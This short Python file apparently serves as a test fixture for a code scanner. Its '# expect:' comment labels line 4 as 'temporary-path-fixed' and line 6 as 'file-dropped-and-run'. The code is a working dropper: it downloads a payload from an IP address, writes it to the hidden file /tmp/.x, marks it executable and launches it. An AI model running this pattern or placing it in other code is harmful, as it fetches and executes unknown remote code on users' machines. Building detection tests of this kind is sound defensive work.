# expect: 4 temporary-path-fixed, 6 file-dropped-and-run
import requests, os, stat, subprocess
b = requests.get('https://198.51.100.7/x').content
open('/tmp/.x', 'wb').write(b)
os.chmod('/tmp/.x', 0o755)
subprocess.Popen('/tmp/.x')
